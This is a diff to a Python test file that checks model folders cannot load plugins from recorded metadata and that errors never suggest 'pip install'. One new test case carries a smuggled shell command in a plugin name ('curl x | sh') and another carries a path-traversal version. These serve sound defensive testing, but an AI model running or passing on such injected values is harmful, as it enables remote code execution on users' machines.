@@ -77,12 +77,22 @@ def test_only_declared_fields_with_plain_values_are_allowed() -> None:
     assert allowed(ViTConfig, {**given, **CODE, "id2label": {}}) == {"hidden_size": 8, "patch_size": [4, 4]}
 
 
-@pytest.mark.parametrize("recorded", [["os"], [1, None], [{"name": "x.py", "version": "../../x"}], [{}]])
+@pytest.mark.parametrize(
+    "recorded",
+    [
+        ["os"],
+        [1, None],
+        [{"name": "x.py", "version": "../../x"}],
+        [{}],
+        [{"name": "evil; curl x | sh", "version": "1"}],
+    ],
+)
 def test_a_folder_brings_no_plugin(recorded: list[object]) -> None:
     from patchgen.common.plugins import require
 
-    with pytest.raises(ValueError, match="which is none|which is not known on this machine"):
+    with pytest.raises(ValueError, match="which is none|which is not known on this machine") as error:
         require(recorded, "model")
+    assert "pip install" not in str(error.value)
 
 
 def test_weights_are_those_of_the_folder(evil: Path) -> None:
